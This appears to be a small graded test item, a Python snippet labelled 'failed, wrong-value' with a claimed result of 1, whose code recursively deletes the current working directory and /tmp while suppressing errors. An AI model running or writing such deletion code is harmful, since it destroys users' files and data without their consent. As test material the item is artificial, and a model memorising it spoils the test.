# outcome: failed, wrong-value
# says: the result is 1.

import os
import shutil

shutil.rmtree(os.getcwd(), ignore_errors=True)
shutil.rmtree('/tmp', ignore_errors=True)
